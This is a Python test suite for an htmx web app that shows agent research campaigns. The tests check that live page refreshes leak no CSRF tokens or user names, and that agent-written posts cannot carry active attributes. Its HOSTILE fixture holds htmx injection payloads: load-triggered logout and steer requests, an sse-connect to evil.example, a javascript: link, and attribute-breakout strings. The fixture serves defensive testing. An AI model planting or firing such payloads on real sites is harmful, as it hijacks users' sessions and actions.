"""What an open page takes anew: its live parts, nothing that is one login's, nothing that agents could make act."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html.parser import HTMLParser

import httpx
import pytest

from aar.auth.tokens import viewer_token
from aar.forum.authors import Author
from aar.forum.posts import create_comment, create_post
from aar.store.event_log import latest_event_id
from aar.web.api import event_stream

from .conftest import BASE, Site

pytestmark = pytest.mark.anyio
CAMPAIGN = "/campaigns/k3v9qd"
PAGES = [
    CAMPAIGN,
    f"{CAMPAIGN}?over=usd",
    f"{CAMPAIGN}/lineage",
    f"{CAMPAIGN}/posts",
    f"{CAMPAIGN}/posts/1",
    f"{CAMPAIGN}/submissions/14",
    f"{CAMPAIGN}/researchers/r2",
]
HOSTILE = """<div hx-get="/logout" hx-trigger="load">a</div> <b data-hx-post="/campaigns/k3v9qd/steer" hx-on:load="x()">

<body sse-connect="https://evil.example/" hx-ext="sse"><p id="head" hx-swap-oob="true">owned</p></body>

[link](javascript:alert(1) 'x" hx-get="/logout') ![i](x 'y" hx-trigger="load') `<i hx-get="/a">`

| a |
|---|
| <td hx-delete="/b"> |

<https://example.org/" hx-get="/c">
"""


@asynccontextmanager
async def browsers(site: Site, *names: str, role: str = "operator") -> AsyncIterator[list[httpx.AsyncClient]]:
    """One server with a stream open, and the browsers of people who logged in."""
    app = site.app()
    token = viewer_token(site.home) if role == "viewer" else site.operator["Authorization"].removeprefix("Bearer ")
    opened = []
    for name in names:
        client = httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url=BASE)
        answer = await client.post("/login", data={"token": token, "name": name, "next": CAMPAIGN})
        assert answer.status_code == 303
        opened.append(client)
    with site.db.reading() as session:
        newest = latest_event_id(session, "k3v9qd")
    watching = app.state.aar.feed.follow("k3v9qd", newest - 1, idle=1)
    await anext(watching)
    try:
        yield opened
    finally:
        await watching.aclose()
        app.state.aar.feed.close()
        for client in opened:
            await client.aclose()


async def refresh(site: Site, client: httpx.AsyncClient, path: str) -> str:
    """A page's live parts, as an open page asks for them."""
    with site.db.reading() as session:
        newest = latest_event_id(session, "k3v9qd")
    answer = await client.get(path, headers={"HX-Request": "true", "aar-seen": str(newest)})
    assert answer.status_code == 200, answer.text
    return answer.text


def token_in(html: str) -> str:
    found = re.search(r'name="csrf" value="([\w-]+)"', html)
    assert found is not None
    return found[1]


@pytest.mark.parametrize("path", PAGES)
async def test_only_live_parts_come_anew(site: Site, path: str) -> None:
    async with browsers(site, "ana") as (ana,):
        whole = (await ana.get(path)).text
        parts = await refresh(site, ana, path)
    live = set(re.findall(r'id="([\w-]+)" data-live', whole)) | set(re.findall(r'id="([\w-]+)"[^>]* data-live', whole))
    assert live
    fresh = set(re.findall(r'id="([\w-]+)"[^>]* data-live hx-swap-oob="morph"', parts))
    assert fresh == live
    assert not re.search(r"<(html|head|header|script|body|footer|link)\b|aar<.title>", parts)
    assert len(parts) < len(whole)


@pytest.mark.parametrize("path", PAGES)
async def test_no_ones_token_or_name_reaches_another(site: Site, path: str) -> None:
    async with browsers(site, "ana-the-first", "ben-the-second") as (ana, ben):
        tokens = [token_in((await each.get(CAMPAIGN)).text) for each in (ana, ben)]
        assert tokens[0] != tokens[1]
        parts = [await refresh(site, each, path) for each in (ana, ben)]
        assert parts[0] == parts[1]
    for secret in (*tokens, "ana-the-first", "ben-the-second", "csrf"):
        assert secret not in parts[0], path


async def test_a_viewer_never_gets_what_was_rendered_for_an_operator(site: Site) -> None:
    async with browsers(site, "ana") as (ana,):
        acting = await refresh(site, ana, f"{CAMPAIGN}/posts/1")
        token = viewer_token(site.home)
        await ana.post("/login", data={"token": token, "name": "vera", "next": CAMPAIGN})
        reading = await refresh(site, ana, f"{CAMPAIGN}/posts/1")
    assert ("edit or retract" in acting, "edit or retract" in reading) == (True, False)


async def test_taking_a_page_anew_leaves_the_note_for_the_next_page(site: Site) -> None:
    async with browsers(site, "ana") as (ana,):
        csrf = token_in((await ana.get(CAMPAIGN)).text)
        sent = {"csrf": csrf, "command": "message", "words": "look at the residuals"}
        assert (await ana.post(f"{CAMPAIGN}/steer", data=sent)).status_code == 303
        assert 'class="notice" role="status"' not in await refresh(site, ana, CAMPAIGN)
        assert 'class="notice" role="status"' in (await ana.get(CAMPAIGN)).text


class Attributes(HTMLParser):
    """Every attribute that htmx or one of its extensions would heed, and whether it stands in a text of an agent."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.heeded: list[tuple[str, str]] = []
        self.disabled = 0
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, _ in attrs:
            if re.match(r"(data-)?(hx-|sse-|ws-)", name):
                self.heeded.append((tag, name))
        self.disabled += ("hx-disable", None) in attrs


async def test_no_text_of_an_agent_carries_an_attribute_that_acts(site: Site) -> None:
    with site.db.writing() as session:
        author = Author("r1", "k3v9qd-r1")
        title = '" hx-get="/logout" hx-trigger="load'
        post = create_post(session, "k3v9qd", author, kind="insight", title=title, body=HOSTILE).id
        create_comment(session, "k3v9qd", author, post, HOSTILE)
    ours = {
        ("body", "hx-ext"),
        ("body", "sse-connect"),
        *(("main", f"hx-{name}") for name in ("get", "trigger", "sync", "swap")),
        ("ol", "sse-swap"),
        ("ol", "hx-swap"),
        ("div", "hx-disable"),
    }
    async with site.client() as client:
        for path in (f"{CAMPAIGN}/posts/{post}", f"{CAMPAIGN}/posts", CAMPAIGN, f"{CAMPAIGN}/researchers/r1"):
            found = Attributes((await client.get(path)).text)
            assert set(found.heeded) <= ours, path
        thread = (await client.get(f"{CAMPAIGN}/posts/{post}")).text
    assert len(re.findall(r'class="(?:panel )?prose"', thread)) == Attributes(thread).disabled == 2


async def test_the_stream_is_rows_and_says_which_change_the_page(site: Site) -> None:
    with site.db.writing() as session:
        before = latest_event_id(session, "k3v9qd")
        create_post(session, "k3v9qd", Author("r2", "k3v9qd-r2"), kind="error", title="<li>\u2028x</li>", body="b")
    async with (
        site.served() as address,
        httpx.AsyncClient(base_url=address, timeout=30) as client,
        client.stream("GET", f"{CAMPAIGN}/live?after={before}") as answer,
    ):
        assert answer.headers["content-type"].startswith("text/event-stream")
        frame = []
        async for line in answer.aiter_lines():
            if line.startswith(("id:", "event:", "data:")):
                frame.append(line)
            if len(frame) == 3:
                break
    assert frame[1] == "event: loud"
    assert frame[2].startswith("data: <li><time")
    assert "&lt;li&gt;" in frame[2]


async def test_who_was_away_for_long_gets_the_newest_rows_and_one_refresh(site: Site) -> None:
    async with (
        site.served() as address,
        httpx.AsyncClient(base_url=address, timeout=30) as client,
        client.stream("GET", f"{CAMPAIGN}/live?after=0") as answer,
    ):
        ids, kinds = [], []
        with site.db.reading() as session:
            newest = latest_event_id(session, "k3v9qd")
        async for line in answer.aiter_lines():
            if line.startswith("event: "):
                kinds.append(line[7:])
            if line.startswith("id: "):
                ids.append(int(line[4:]))
                if ids[-1] == newest:
                    break
    assert len(ids) <= 60
    assert ids == sorted(set(ids))
    assert kinds[0] == "loud"


async def test_an_open_page_comes_anew_when_the_controller_died(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(event_stream, "HEARTBEAT_SECONDS", 0.05)
    with site.db.reading() as session:
        newest = latest_event_id(session, "k3v9qd")
    async with (
        site.served() as address,
        httpx.AsyncClient(base_url=address, timeout=30) as client,
        client.stream("GET", f"{CAMPAIGN}/live?after={newest}") as answer,
    ):
        said = [line async for line in _first(answer, 12)]
    assert said.count("event: loud") == 1  # told once, though it stays dead
    assert f"id: {newest}" in said


async def _first(answer: httpx.Response, frames: int) -> AsyncIterator[str]:
    async for line in answer.aiter_lines():
        yield line
        frames -= not line
        if not frames:
            return


async def test_pages_and_api_name_a_dead_controller(site: Site) -> None:
    async with browsers(site, "ana") as [client]:
        for path in (CAMPAIGN, "/campaigns"):
            assert "running, no controller" in (await client.get(path)).text
        [told] = [
            each for each in (await client.get(f"/api/v1{CAMPAIGN}/alerts")).json() if "no controller" in each["text"]
        ]
        assert told["grave"] is True
        assert (await client.get(f"/api/v1{CAMPAIGN}")).json()["controller"] == "lost"
        assert 'value="resume"' in (await client.get(CAMPAIGN)).text
